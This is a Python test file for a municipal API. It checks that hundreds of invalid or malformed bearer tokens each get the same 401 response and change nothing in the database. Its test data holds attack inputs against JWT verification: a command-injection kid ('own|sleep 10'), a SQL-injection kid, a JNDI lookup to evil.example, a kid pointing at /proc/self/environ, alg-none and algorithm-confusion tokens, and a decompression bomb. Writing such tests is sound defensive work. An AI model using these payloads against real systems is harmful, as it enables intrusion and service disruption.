"""Attacks with invalid tokens over HTTP: each gets the same 401 at every operation, and changes nothing."""

import gzip
import json
import zlib
from datetime import timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from api.core import clock
from api.core.danish_collation import danish_key
from api.db import transactions
from api.journal.models import Entry
from api.municipal_sign_in.actions.sign_in import MunicipalSignIn
from api.municipal_sign_in.schemas import ClaimMapping
from api.sign_in.models import Person, SignIn
from tests.support.oidc_provider import PRIVATE, FakeProvider
from tests.support.token_cases import (
    ANNA,
    AUDIENCE,
    BODY,
    FAMILY,
    GOOD,
    INVALID_TOKENS,
    NOW,
    OWN,
    RSA,
    SIGN,
    SIGNATURE,
    T,
    b64,
    claims,
    header,
    rs256,
    to_bytes,
    token,
)
from tests.support.world import World

PROVIDER_ISSUER = "https://login.kommune.example"
PROVIDER_ALGORITHMS = {"rsa": "RS256", "ec": "ES256", "pss": "PS256", "ed": "EdDSA"}


def provider_token(kid: str = "rsa", /, **changes: Any) -> str:
    """Return a token of the provider, valid but for the changes; `head` and `sign` change header and signature."""
    payload = {
        "iss": PROVIDER_ISSUER,
        "aud": AUDIENCE,
        "sub": "mette",
        "jti": "1",
        "iat": T,
        "exp": T + 900,
        "roles": ["x"],
    }
    payload |= {name: value for name, value in changes.items() if name not in ("head", "sign")}
    head = header(kid) | changes.get("head", {})
    payload = {name: value for name, value in payload.items() if value != "absent"}
    return token(head, payload, changes.get("sign", SIGN[kid]))


def compressed_claims(size: int) -> str:
    """Return compressed claims that expand to `size` characters (a decompression bomb)."""
    return b64(zlib.compress(to_bytes(claims(x="a" * size)))[2:-4])


JWE = b64(to_bytes({"alg": "dir", "enc": "A256GCM", "kid": "own", "zip": "DEF"}))

# In addition to `token_cases.INVALID_TOKENS`: malformed headers, and invalid tokens of a provider.
HEADERS: dict[str, str | list[str]] = {
    "nothing": [],
    "an empty header": "",
    "Bearer alone": "Bearer",
    "Bearer and a space": "Bearer ",
    "no scheme": GOOD,
    "another scheme": f"Token {GOOD}",
    "Basic": f"Basic {GOOD}",
    "Bearer twice": f"Bearer Bearer {GOOD}",
    "a tab": f"Bearer\t{GOOD}",
    "a colon": f"Bearer: {GOOD}",
    "a comma": f"Bearer,{GOOD}",
    "no space": f"Bearer{GOOD}",
    "quotation marks": f'Bearer "{GOOD}"',
    "as a parameter": f"Bearer token={GOOD}",
    "two tokens": f"Bearer {GOOD} {GOOD}",
    "two tokens and a comma": f"Bearer {GOOD},{GOOD}",
    "two headers": [f"Bearer {GOOD}", f"Bearer {GOOD}"],
    "two headers, one of them nonsense": [f"Bearer {GOOD}", "Bearer x"],
    "nonsense, then a good one": ["Bearer x", f"Bearer {GOOD}"],
    "a space that is none": f"Bearer\xa0{GOOD}",
    "one such after it": f"Bearer {GOOD}\xa0",
    "a next line after it": f"Bearer {GOOD}\x85",
    "DPoP": f"DPoP {GOOD}",
    "a long header": "Bearer " + "a" * 60_000,
    "many dots": "Bearer " + "." * 60_000,
    "bytes that are no text": "Bearer \xff\xfe\xfd",
}
TEXTS: dict[str, str] = {
    "packed claims": f"{b64(to_bytes(header(zip='DEF')))}.{compressed_claims(10_000_000)}.{SIGNATURE}",
    "packed claims, signed": token(header(zip="DEF"), zlib.compress(to_bytes(claims()))),
    "gzip, signed": token(body=gzip.compress(to_bytes(claims()))),
    "a JWE": f"{JWE}..{b64(b'0' * 12)}.{BODY}.{b64(b'0' * 16)}",
    "a JWE that unpacks": f"{JWE}..AAAA.{compressed_claims(1_000_000)}.AAAA",
    "a token in a token": token(header(cty="JWT"), GOOD.encode()),
    "a header of 7 KB": token(header(x="a" * 7000)),
    "a header of 60 KB": f"{b64(to_bytes(header(x='a' * 45_000)))}.{BODY}.{SIGNATURE}",
    "a JWK with our key": token(header(jwk={"kty": "RSA", "kid": "rsa"}), sign=rs256),
    "no such key as kid": token(header(kid="/proc/self/environ")),
    "a URL as kid": token(header(kid="https://evil.example/jwks")),
    "a command as kid": token(header(kid="own|sleep 10")),
    "SQL as kid": token(header(kid="x' UNION SELECT 'secret'--")),
    "a template as kid": token(header(kid="${jndi:ldap://evil.example/a}")),
    "a refresh token's secret": "Jq3xW2mB7cT9vK1sR5yU8aE4oI6pL0dF-gHjZxCvBnM",
    "the provider's issuer, by our key": token(body=claims(iss=PROVIDER_ISSUER)),
    "our issuer, by the provider's key": token(header("rsa"), claims()),
    "the provider's, by a retired key": provider_token(head={"kid": "old"}, sign=rs256),
    "the provider's, by another's key of that kid": provider_token("ec", sign=SIGN["ed"]),
    "the provider's, RS256 called PS256": provider_token("pss", sign=rs256),
    "the provider's, alg none": f"{provider_token(head={'alg': 'none'}).rsplit('.', 1)[0]}.",
    "the provider's, HS256 with its public key": provider_token(head={"alg": "HS256"}, sign=SIGN["own"]),
    "the provider's, for its client": provider_token(aud="portal"),
    "the provider's, for several, not us": provider_token(aud=["portal", "account"]),
    "the provider's ID token": provider_token(nonce="n-0S6_WzA2Mj", at_hash="77QmUPtjPfzWtF2AnpK9RA"),
    "the provider's ID token by typ": provider_token(head={"typ": "JWT"}),
    "the provider's logout token": provider_token(head={"typ": "logout+jwt"}, events={}),
    "the provider's refresh token": provider_token(typ="Refresh"),
    "the provider's, of a day ago": provider_token(iat=T - 87_300, exp=T - 86_400),
    "the provider's, half a minute late": provider_token(iat=T - 900, exp=T - 30),
    "the provider's, of tomorrow": provider_token(iat=T + 86_400, exp=T + 87_000),
    "the provider's, for a month": provider_token(exp=T + 2_592_000),
    "the provider's, without an end": provider_token(exp="absent"),
    "the provider's, without a name": provider_token(jti="absent"),
    "the provider's, without a subject": provider_token(sub="absent"),
    "the provider's, a subject of all": provider_token(sub=["mette", "anna"]),
    "the provider's, a subject of control characters": provider_token(sub="mette\0admin"),
    "the provider's, of its other realm": provider_token(iss=PROVIDER_ISSUER + "/realms/other"),
    "the provider's, its issuer in capitals": provider_token(iss=PROVIDER_ISSUER.upper()),
}  # fmt: skip
INVALID_AUTHORIZATION: dict[str, str] = {
    name: f"Bearer {text}"
    for name, (_, text) in INVALID_TOKENS.items()
    if isinstance(text, str)
    and text != GOOD
    and text == text.strip(" ")
    and text.isprintable()
    and all(ord(letter) < 256 for letter in text)
    and len(text) < 60_000
} | {name: f"Bearer {text}" for name, text in TEXTS.items()}
OPERATIONS = [
    ("GET", "/v1/me", None),
    ("GET", "/v1/institutions?limit=1", None),
    ("POST", "/v1/districts", {"name": "Vest"}),
    ("PATCH", "/v1/institutions/{birk}", {"name": "x"}),
    ("DELETE", "/v1/institutions/{birk}", None),
]


@pytest.fixture
async def service(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """The service with the keys and the person of `token_cases`, and a provider."""
    provider = FakeProvider()
    provider.discovery = {"issuer": PROVIDER_ISSUER, "jwks_uri": f"{PROVIDER_ISSUER}/jwks"}
    monkeypatch.setattr("tests.support.oidc_provider.ISSUER", PROVIDER_ISSUER)
    keys = {"rsa": RSA, "ec": PRIVATE["ES256"], "pss": PRIVATE["PS256"], "ed": PRIVATE["EdDSA"]}
    provider.keys = {kid: (PROVIDER_ALGORITHMS[kid], key) for kid, key in keys.items()}
    configured = provider.client(issuer=PROVIDER_ISSUER, audience=AUDIENCE)
    mapping = ClaimMapping.model_validate(
        {"grants": [{"claim": "roles", "value": "x", "role": "administration", "unit": "municipality"}]}
    )
    municipal = MunicipalSignIn(configured, mapping, world.app.state.engine)
    monkeypatch.setitem(world.app.state._state, "verifier", OWN)
    monkeypatch.setitem(world.app.state._state, "municipal", municipal)
    clock.move(NOW)
    async with transactions.write_transaction(world.app.state.engine) as session:
        session.add(Person(id=ANNA, username="anna", name="Anna", name_key=danish_key("Anna")))
        await session.flush()
        session.add(SignIn(id=FAMILY, person_id=ANNA, began_at=NOW, ends_at=NOW + timedelta(days=1)))
    return world


async def send_token(
    world: World, authorization: str | list[str], method: str = "GET", path: str = "/v1/me", body: Any = None
) -> Any:
    values = [authorization] if isinstance(authorization, str) else authorization
    headers = [(b"authorization", value.encode("latin-1")) for value in values]
    return await world.client.request(method, path.format(birk=world.birk), headers=headers, json=body)


async def count_rows(world: World) -> tuple[int, int]:
    """Return the numbers of journal entries and of people."""
    async with transactions.read_transaction(world.app.state.engine) as session:
        statements = [select(func.count()).select_from(table) for table in (Entry, Person)]
        counts = [(await session.execute(statement)).scalar_one() for statement in statements]
    return counts[0], counts[1]


def visible_parts(response: httpx.Response) -> tuple[Any, ...]:
    """Return status, body and headers of a response, without what differs from request to request."""
    body = response.json()
    members = {name: body[name] for name in sorted(body) if name not in ("request_id", "instance")}
    headers = {
        name: value for name, value in response.headers.items() if name not in ("x-request-id", "content-length")
    }
    return response.status_code, json.dumps(members), headers


async def test_valid_tokens_are_accepted(service: World) -> None:
    """Without this, the tests below would prove nothing."""
    assert (await send_token(service, f"Bearer {GOOD}")).status_code == 200
    assert (await send_token(service, f"bearer   {GOOD}  ")).status_code == 200
    assert (await send_token(service, f"Bearer {provider_token()}")).status_code == 200


async def test_invalid_tokens_are_rejected_alike_by_every_kind_of_operation(service: World) -> None:
    assert len(INVALID_AUTHORIZATION) + len(HEADERS) > 500
    before, expected = await count_rows(service), visible_parts(await send_token(service, []))
    assert expected[0] == 401
    assert expected[2]["www-authenticate"] == 'Bearer realm="sammen"'
    cases: list[tuple[str, str | list[str]]] = [*INVALID_AUTHORIZATION.items(), *HEADERS.items()]
    if service.app.state.engine.dialect.name == "postgresql":
        cases = cases[::5]  # invalid tokens are rejected before the database is read
    unexpected = []
    for index, (name, authorization) in enumerate(cases):
        # Each case at the first operation and at one of the others in turn.
        for operation in (OPERATIONS[0], OPERATIONS[1 + index % (len(OPERATIONS) - 1)]):
            response = await send_token(service, authorization, *operation)
            if visible_parts(response) != expected:
                unexpected.append((name, operation[0], response.status_code, response.text[:200]))
    assert unexpected == []
    assert await count_rows(service) == before


async def test_token_outside_the_authorization_header_is_ignored(service: World) -> None:
    for response in (
        await service.client.get(f"/v1/me?access_token={GOOD}"),
        await service.client.get("/v1/me", headers={"Cookie": f"access_token={GOOD}; token={GOOD}"}),
        await service.client.get("/v1/me", headers={"X-Access-Token": GOOD, "Proxy-Authorization": f"Bearer {GOOD}"}),
        await service.client.post("/v1/districts", json={"access_token": GOOD, "name": "Vest"}),
    ):
        assert (response.status_code, response.json()["code"]) == (401, "not-signed-in")
        assert GOOD not in response.text
